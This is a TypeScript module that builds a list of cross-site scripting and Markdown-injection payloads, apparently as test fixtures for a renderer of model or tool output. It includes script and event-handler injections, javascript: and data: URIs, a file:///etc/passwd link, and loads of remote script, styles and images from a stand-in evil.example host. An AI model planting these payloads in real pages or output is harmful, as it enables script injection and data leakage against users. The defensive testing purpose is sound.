/** What an attacker would have a model, a tool or a file say: pieces that have run in some page, in every frame that Markdown offers. */

const runs = [
  '<script>PWN</script>',
  '<script src="https://evil.example/x.js"></script>',
  '<img src=x onerror=PWN>',
  '<img src=x onerror="PWN" loading=eager>',
  '<svg onload=PWN>',
  '<svg><script>PWN</script></svg>',
  '<svg><animate onbegin=PWN attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:PWN"><text y=20>x</text></a></svg>',
  '<math><mi xlink:href="javascript:PWN">x</mi></math>',
  '<math><mtext><table><mglyph><style><img src=x onerror=PWN>',
  '<iframe srcdoc="<script>PWN</script>"></iframe>',
  '<iframe src="javascript:PWN"></iframe>',
  '<object data="javascript:PWN"></object>',
  '<embed src="https://evil.example/x.swf">',
  '<video><source onerror=PWN></video>',
  '<audio src=x onerror=PWN></audio>',
  '<details open ontoggle=PWN>x</details>',
  '<body onload=PWN>',
  '<input autofocus onfocus=PWN>',
  '<form action="https://evil.example"><button>go</button></form>',
  '<button formaction="javascript:PWN">x</button>',
  '<marquee onstart=PWN>x</marquee>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<base href="https://evil.example/">',
  '<style>@import "https://evil.example/x.css";</style>',
  '<div style="background:url(https://evil.example/b)">x</div>',
  '<a href="javascript:PWN">x</a>',
  '<noscript><p title="</noscript><img src=x onerror=PWN>">',
  '<template><img src=x onerror=PWN></template>',
  '"><img src=x onerror=PWN>',
  "'-PWN-'",
  '</span><img src=x onerror=PWN>',
  '<!--><img src=x onerror=PWN>-->',
  '<img src="https://evil.example/t.png">',
  '<picture><source srcset="https://evil.example/s.png"><img></picture>',
];

const addresses = [
  'javascript:PWN',
  'JaVaScRiPt:PWN',
  'java&#115;cript:PWN',
  'java\\tscript:PWN',
  '\\x01javascript:PWN',
  'data:text/html,<script>PWN</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg onload=PWN>',
  'vbscript:PWN',
  'blob:https://evil.example/x',
  'file:///etc/passwd',
  '//evil.example/p.png',
  'https://evil.example/p.png',
  'https://evil.example/p.png" onerror="PWN',
];

const frames: ((run: string) => string)[] = [
  (run) => run,
  (run) => `**${run}** and \`${run}\``,
  (run) => `- ${run}\n- [ ] ${run}`,
  (run) => `| ${run.replaceAll('|', '\\|')} | b |\n|---|---|\n| ${run.replaceAll('|', '\\|')} | c |`,
];

const links: ((address: string) => string)[] = [
  (address) => `[x](${address})`,
  (address) => `[x](<${address}> "${address}")`,
  (address) => `![x](${address})`,
  (address) => `[x][r]\n\n[r]: ${address}`,
  (address) => `<${address}>`,
];

const others = [
  '```html" onmouseover="PWN\n<script>PWN</script>\n```',
  '```<img src=x onerror=PWN>\nx\n```',
  '$$ \\href{javascript:PWN}{x} $$',
  '\\( \\url{https://evil.example} \\)',
  '$$ \\includegraphics{https://evil.example/x.png} $$',
  '\\[ \\text{<img src=x onerror=PWN>} \\]',
  '\\( \\style{background:url(https://evil.example)}{x} \\)',
  '\u001b]8;;javascript:PWN\u0007link\u001b]8;;\u0007 \u001b[31m<img src=x onerror=PWN>\u001b[0m',
];

/** `PWN` becomes code that a page would notice. */
export function payloads(): string[] {
  return [
    ...runs.flatMap((run) => frames.map((frame) => frame(run))),
    ...addresses.flatMap((address) => links.map((link) => link(address))),
    ...others,
  ].map((payload) => payload.replaceAll('PWN', 'window.pwned=1'));
}
